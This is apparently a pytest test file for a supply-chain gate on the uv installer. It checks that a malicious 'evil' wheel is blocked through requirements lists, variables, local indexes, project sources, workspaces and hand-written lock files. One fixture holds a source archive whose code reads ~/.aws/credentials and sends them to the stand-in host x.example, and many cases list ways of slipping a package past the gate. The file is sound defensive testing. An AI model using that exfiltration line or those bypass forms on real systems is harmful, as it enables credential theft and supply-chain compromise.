"""Every way to name what is installed: lists, sources, indexes and locks; each leads past the gate or nowhere."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING

import pytest
from uv_world import some

from support.builders import make_sdist, make_wheel
from support.gated import installed, releases, untouched, write_project
from support.held import EVIL, OLD
from support.selection import everyday

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from uv_world import Target, Uv

    from support.envs import Home, Result
    from support.tls_index import TlsIndex

    MakeIndex = Callable[..., TlsIndex]


@pytest.fixture
def evil(home: Home) -> Path:
    """A wheel on this machine that would overwrite veln-hook."""
    return make_wheel(home.work / "links", "evil", "1.0", EVIL)


def _blocked(result: Result, prefix: Path) -> None:
    assert result.returncode == 1, result
    assert "BLOCK evil 1.0" in result.stderr, result
    assert installed(prefix) == {}


# Lists of requirements


LISTS = {
    "path": "./links/evil-1.0-py3-none-any.whl\n",
    "named path": "evil @ ./links/evil-1.0-py3-none-any.whl\n",
    "file URL": "evil @ {uri}\n",
    "file URL, quoted": "evil @ {quoted}\n",
    "find-links": "--no-index\n--find-links ./links\nevil\n",
    "find-links, short": "--no-index\n-f links\nevil\n",
    "find-links, equals": "--no-index\n--find-links=links\nevil\n",
    "folded": "--no-index\n--find-links \\\n  links\nevil\n",
    "variable": "--no-index\n--find-links ${{HOME}}/work/links\nevil\n",
    "project root": "evil @ file:///${{PROJECT_ROOT}}/links/evil-1.0-py3-none-any.whl\n",
    "a list by a variable": "-r ${{HOME}}/work/more.txt\n",
    "a list by its URL": "-r file://{list}\n",
    "editable": "-e ${{PROJECT_ROOT}}/links/evil-1.0-py3-none-any.whl\n",
    "carriage returns": "--no-index\r\n--find-links links\r\nevil\r\n",
    "several options": "--no-index --find-links links\nevil\n",
    "after a comment that seems to go on": "demo # here \\\n./links/evil-1.0-py3-none-any.whl\n",
    "marks": "\ufeff--no-index\n--find-links links # here\nevil ; python_version > '3'\n",
}


@pytest.mark.parametrize("text", some(LISTS))
def test_a_list_that_names_a_file(target: Target, demo: TlsIndex, home: Home, evil: Path, text: str) -> None:
    quoted = evil.as_uri().replace("evil-1.0", "%65vil-1.0")
    wanted = home.work / "requirements.txt"
    (home.work / "more.txt").write_text(f"{evil}\n")
    wanted.write_bytes(text.format(uri=evil.as_uri(), quoted=quoted, list=home.work / "more.txt").encode())
    _blocked(target.install(demo, "-r", "requirements.txt"), target.prefix)


@pytest.mark.parametrize(
    "text", everyday(["demo\r./links/{name}\n", "# here\r./links/{name}\n", "-r li\\ st.txt\n"], 1)
)
def test_a_list_that_uvs_could_read_differently(
    target: Target, demo: TlsIndex, home: Home, evil: Path, text: str
) -> None:
    (home.work / "li st.txt").write_text(f"{evil}\n")
    (home.work / "requirements.txt").write_bytes(text.format(name=evil.name).encode())
    result = target.fails(demo, "-r", "requirements.txt")
    assert result.returncode == 2, result
    assert "requirements.txt:1" in result.stderr, result


def test_a_variable_that_means_something_else_behind_the_gate(
    target: Target, demo: TlsIndex, home: Home, evil: Path
) -> None:
    """With five steps up from our cache a list could lead to a file that nobody has looked at."""
    wanted = home.work / "requirements.txt"
    wanted.write_text(f"evil @ file://${{UV_CACHE_DIR}}/../../../../work/links/{evil.name}\n")
    result = target.fails(demo, "-r", "requirements.txt")
    assert result.returncode == 2, result
    assert f"{wanted}:1" in result.stderr, result


def test_a_list_that_a_list_names(target: Target, demo: TlsIndex, home: Home, evil: Path) -> None:
    inner = home.work / "inner"
    inner.mkdir()
    (home.work / "requirements.txt").write_text("demo\n-r inner/more.txt\n")
    (inner / "more.txt").write_text(f"{evil}\n")
    _blocked(target.install(demo, "-r", "requirements.txt"), target.prefix)


def test_constraints_and_overrides(target: Target, demo: TlsIndex, home: Home, evil: Path) -> None:
    (home.work / "more.txt").write_text(f"demo @ {demo.file_url('demo-2.0-py3-none-any.whl')}\n")
    for option in ("--constraint", "--override"):
        result = target.fails(demo, option, "more.txt", "demo")
        assert result.returncode == 75, result
    assert untouched(demo)


def test_a_list_from_the_network(target: Target, demo: TlsIndex) -> None:
    """It isn't known what it names before uv fetches it, so it can't open anything."""
    from support.tls_index import Fault

    demo.faults["/files/list.txt"] = Fault(body=b"demo==2.0\n")
    result = target.install(demo, "-r", f"{demo.root}/files/list.txt")
    assert result.returncode != 0, result
    assert target.installed() == {}
    assert untouched(demo)


# Variables


def test_indexes_out_of_variables(
    target: Target, demo: TlsIndex, make_index: MakeIndex, tmp_path: Path, home: Home
) -> None:
    second = releases(make_index(host="127.0.0.2"), tmp_path, "inner")
    for env in ({"UV_EXTRA_INDEX_URL": second.url}, {"UV_INDEX": f"mine={second.url}"}):
        result = target.install(demo, "--reinstall", "inner", env=env)
        assert (result.returncode, target.installed()) == (0, {"inner": "1.0"}), result
        assert "HOLD  inner 2.0" in result.stderr, result
        pinned = target.install(demo, "inner==2.0", env=env)
        assert pinned.returncode == 75, pinned
    assert untouched(second, name="inner")


def test_links_out_of_a_variable(target: Target, demo: TlsIndex, evil: Path) -> None:
    env = {"UV_FIND_LINKS": str(evil.parent), "UV_NO_INDEX": "1"}
    _blocked(target.install(demo, "evil", env=env), target.prefix)


def test_a_page_of_links(target: Target, demo: TlsIndex, make_index: MakeIndex, tmp_path: Path) -> None:
    page = make_index(host="127.0.0.2", json=False)
    page.add(make_wheel(tmp_path, "other", "1.0"))
    result = target.fails(demo, "--no-index", "--find-links", f"{page.url}other/", "other")
    assert result.returncode == 75, result
    assert untouched(page, "1.0", "other")


@pytest.fixture
def hidden(home: Home) -> Path:
    """A wheel that would overwrite veln-hook, where nobody looks by himself."""
    return make_wheel(home.work / "a" / "b" / "c", "evil", "1.0", EVIL)


def _linking(path: Path, href: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f'<!DOCTYPE html>\n<html><body><a href="{href}">evil-1.0-py3-none-any.whl</a></body></html>\n'
    )


@pytest.mark.parametrize("form", everyday(["relative", "absolute", "linked"], 1))
def test_a_local_index_whose_pages_lead_elsewhere(
    targets: Target, home: Home, hidden: Path, form: str
) -> None:
    page = home.work / ("elsewhere" if form == "linked" else "simple/evil") / "index.html"
    _linking(page, "../../a/b/c/evil-1.0-py3-none-any.whl" if form == "relative" else hidden.as_uri())
    if form == "linked":
        (home.work / "simple").mkdir()
        (home.work / "simple" / "evil").symlink_to(page.parent)
    for index in ((home.work / "simple").as_uri(), "./simple"):
        _blocked(targets.install(index, "evil"), targets.prefix)


@pytest.mark.parametrize("form", ["page", "file"])
def test_a_page_of_links_on_this_machine(
    targets: Target, demo: TlsIndex, home: Home, hidden: Path, form: str
) -> None:
    """Old uvs take none; that is refused by them then."""
    page = home.work / "page.html"
    _linking(page, "a/b/c/evil-1.0-py3-none-any.whl")
    named = str(page) if form == "page" else page.as_uri()
    targets.fails(demo, "--no-index", "--find-links", named, "evil")


def test_a_page_that_could_be_read_differently(target: Target, home: Home, hidden: Path) -> None:
    page = home.work / "simple" / "evil" / "index.html"
    _linking(page, hidden.as_uri())
    page.write_text(f"<base href='/x/'>{page.read_text()}")
    result = target.fails((home.work / "simple").as_uri(), "evil")
    assert result.returncode == 2, result
    assert str(page) in result.stderr, result


# Projects


REQUIREMENTS = {
    "file URL": "evil @ {uri}",
    "variable": "evil @ file://${{HOME}}/work/links/evil-1.0-py3-none-any.whl",
    "project root": "evil @ file:///${{PROJECT_ROOT}}/links/evil-1.0-py3-none-any.whl",
}


@pytest.mark.parametrize("text", some(REQUIREMENTS))
def test_requirements_of_a_project(newest: Uv, demo: TlsIndex, evil: Path, text: str) -> None:
    project = write_project(evil.parents[1], text.format(uri=evil.as_uri()))
    _blocked(newest.gated("sync", index=demo, cwd=project), project / ".venv")
    added = newest.gated("pip", "install", text.format(uri=evil.as_uri()), index=demo, cwd=project)
    assert added.returncode == 1, added


SOURCES = {
    "path": 'evil = {{ path = "links/evil-1.0-py3-none-any.whl" }}',
    "url": 'evil = {{ url = "{uri}" }}',
    "by marker": 'evil = [{{ path = "links/evil-1.0-py3-none-any.whl", marker = "python_version > \'3\'" }}]',
}


@pytest.mark.parametrize("source", some(SOURCES))
def test_sources_of_a_project(newest: Uv, demo: TlsIndex, evil: Path, source: str) -> None:
    project = evil.parents[1]
    write_project(project, "evil", more=f"[tool.uv.sources]\n{source.format(uri=evil.as_uri())}\n")
    _blocked(newest.gated("sync", index=demo, cwd=project), project / ".venv")


TABLES = {
    "find-links": '[tool.uv]\nno-index = true\nfind-links = ["links"]\n',
    "flat index": '[[tool.uv.index]]\nurl = "links"\nformat = "flat"\ndefault = true\n',
    "dev": '[tool.uv]\nno-index = true\nfind-links = ["links"]\ndev-dependencies = ["evil"]\n',
}


@pytest.mark.parametrize("table", some(TABLES))
def test_links_of_a_project(newest: Uv, demo: TlsIndex, evil: Path, table: str) -> None:
    project = evil.parents[1]
    write_project(project, "evil", more=table)
    _blocked(newest.gated("sync", index=demo, cwd=project), project / ".venv")


ODD = {
    "tilde": ('[tool.uv.sources]\nevil = {{ path = "~/{name}" }}\n', "~"),
    "scheme": ('[tool.uv.sources]\nevil = {{ path = "file:/{name}" }}\n', "file:"),
    "fragment": ('[tool.uv.sources]\nevil = {{ path = "a#b/{name}" }}\n', "a#b"),
    "name": ('[[tool.uv.index]]\nurl = "a=b"\nformat = "flat"\ndefault = true\n', "a=b"),
    "percent": ('[tool.uv]\nno-index = true\nfind-links = ["%61"]\n', "%61"),
}


@pytest.mark.parametrize("odd", some(ODD))
def test_directories_with_odd_names(newest: Uv, demo: TlsIndex, home: Home, odd: tuple[str, str]) -> None:
    table, directory = odd
    wheel = make_wheel(home.work / "proj" / directory, "evil", "1.0", EVIL)
    project = write_project(home.work / "proj", "evil", more=table.format(name=wheel.name))
    _blocked(newest.gated("sync", index=demo, cwd=project), project / ".venv")


@pytest.mark.parametrize("members", ["packages/*", "**/inner", "packages/.hid?en/inn[e]r"])
def test_members_that_nobody_sees(newest: Uv, demo: TlsIndex, evil: Path, members: str) -> None:
    project = write_project(evil.parents[1], more=f'[tool.uv.workspace]\nmembers = ["{members}"]\n')
    inner = project / "packages" / ".hidden" / ("" if members == "packages/*" else "inner")
    write_project(inner, "evil", more=f'[tool.uv.sources]\nevil = {{ path = "{evil}" }}\n', name="inner")
    _blocked(newest.gated("sync", "--all-packages", index=demo, cwd=project), project / ".venv")


def test_lists_without_end(target: Target, demo: TlsIndex, home: Home, evil: Path) -> None:
    for number in range(250):
        (home.work / f"{number}.txt").write_text(f"-r {number + 1}.txt\n")
    (home.work / "250.txt").write_text(f"{evil}\n")
    assert target.fails(demo, "-r", "0.txt").returncode == 2


def test_groups_extras_and_members(newest: Uv, demo: TlsIndex, home: Home) -> None:
    project = write_project(
        home.work / "proj",
        more='optional-dependencies = { more = ["demo==2.0"] }\n[dependency-groups]\nsome = ["demo==2.0"]\n'
        '[tool.uv.workspace]\nmembers = ["inner"]\n',
    )
    write_project(project / "inner", "demo==2.0", name="inner")
    for words in (("--extra", "more"), ("--group", "some"), ("--all-packages",)):
        result = newest.gated("sync", *words, index=demo, cwd=project)
        assert result.returncode == 75, result
    assert untouched(demo)


# Locks


def _lock(project: Path, source: str, file: str) -> None:
    (project / "uv.lock").write_text(
        'version = 1\nrequires-python = ">=3.9"\n\n[[package]]\nname = "proj"\nversion = "0.1"\n'
        'source = { virtual = "." }\ndependencies = [{ name = "evil" }]\n\n'
        f'[package.metadata]\nrequires-dist = [{{ name = "evil" }}]\n\n[[package]]\nname = "evil"\nversion = "1.0"\n'
        f"{source}\nwheels = [{{ {file} }}]\n"
    )


SPELLINGS = {
    "plain": ('source = {{ path = "links/{name}" }}', 'filename = "{name}"'),
    "quoted key": ('source = {{ "path" = "links/{name}" }}', 'filename = "{name}"'),
    "escaped key": ('source = {{ "p\\u0061th" = "links/{name}" }}', 'filename = "{name}"'),
    "escaped value": ('source = {{ path = "l\\u0069nks/{name}" }}', 'filename = "{name}"'),
    "long string": ('source = {{ path = """links/{name}""" }}', 'filename = "{name}"'),
    "behind a decoy": ('source = {{ x = "url=", path = "links/{name}" }}', 'filename = "{name}"'),
    "dotted": ('source.path = "links/{name}"', 'filename = "{name}"'),
    "directory": ('source = {{ registry = "links" }}', 'path = "{name}"'),
    "out of a directory": ('source = {{ registry = "empty" }}', 'path = "../links/{name}"'),
    "absolute": ('source = {{ registry = "empty" }}', 'path = "{path}"'),
    "file of an index": ('source = {{ registry = "{index}" }}', '"url" = "{uri}"'),
}


@pytest.mark.parametrize("spelling", some(SPELLINGS))
def test_a_lock_that_somebody_has_written(
    newest: Uv, demo: TlsIndex, evil: Path, spelling: tuple[str, str]
) -> None:
    project = write_project(evil.parents[1], "evil")
    (project / "empty").mkdir()
    digest = hashlib.sha256(evil.read_bytes()).hexdigest()
    told = {"name": evil.name, "path": evil, "uri": evil.as_uri(), "index": demo.url}
    source, file = (text.format(**told) for text in spelling)
    _lock(project, source, f'{file}, hash = "sha256:{digest}"')
    _blocked(newest.gated("sync", "--frozen", index=demo, cwd=project), project / ".venv")


@pytest.mark.parametrize("form", everyday(["registry", "url"], 1))
def test_a_lock_of_another_registry(
    newest: Uv, demo: TlsIndex, make_index: MakeIndex, evil: Path, form: str
) -> None:
    """Its page tells an age, and its bytes are judged: what nobody has named doesn't make it trusted."""
    project = write_project(evil.parents[1], "evil")
    other = make_index(host="127.0.0.2")
    file = other.add(evil, upload_time=OLD)
    source = f'registry = "{other.url}"' if form == "registry" else f'url = "{file.url}"'
    _lock(
        project,
        f"source = {{ {source} }}",
        f'url = "{file.url}", hash = "sha256:{file.sha256}", size = {len(file.content)}',
    )
    result = newest.gated("sync", "--frozen", index=demo, cwd=project)
    assert result.returncode in (1, 75, 77), result
    assert installed(project / ".venv") == {}


def test_a_lock_in_the_standards_form(target: Target, demo: TlsIndex, home: Home) -> None:
    file = demo.files["demo-2.0-py3-none-any.whl"]
    (home.work / "pylock.toml").write_text(
        'lock-version = "1.0"\ncreated-by = "a test"\nrequires-python = ">=3.9"\n\n[[packages]]\n'
        f'name = "demo"\nversion = "2.0"\nindex = "{demo.url}"\n'
        f'wheels = [{{ name = "{file.filename}", url = "{file.url}", hashes = {{ sha256 = "{file.sha256}" }} }}]\n'
    )
    result = target.fails(demo, "-r", "pylock.toml")
    assert result.returncode in (2, 75), result
    assert untouched(demo)


# Elsewhere


def test_another_place_to_install_into(target: Target, demo: TlsIndex, tmp_path: Path) -> None:
    for option in ("--target", "--prefix"):
        place = tmp_path / option
        refused = target.install(demo, option, place, "demo==2.0")
        assert refused.returncode == 75, refused
        assert not list(place.rglob("demo*"))
        passed = target.install(demo, option, place, "demo")
        assert passed.returncode == 0, passed
        assert list(place.rglob("demo-1.0.dist-info"))


def test_source_archives_of_this_machine(target: Target, demo: TlsIndex, home: Home) -> None:
    marker = home.tmp / "ran"
    steals = {
        "evil.py": "import os, urllib.request\nurllib.request.urlopen('https://x.example', open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n"
    }
    sdist = make_sdist(home.work, "evil", "1.0", files=steals, marker=marker)
    result = target.fails(demo, sdist)
    assert result.returncode == 77, result
    assert not marker.exists()


def test_two_at_once(target: Target, demo: TlsIndex, tmp_path: Path) -> None:
    """One store and one cache serve them all."""
    from concurrent.futures import ThreadPoolExecutor

    from uv_world import Target as Another

    others = [Another(target.uv, tmp_path / f"venv{number}") for number in range(4)]
    with ThreadPoolExecutor(len(others)) as pool:
        list(pool.map(lambda other: other.falls_back(demo), others))
    assert untouched(demo)
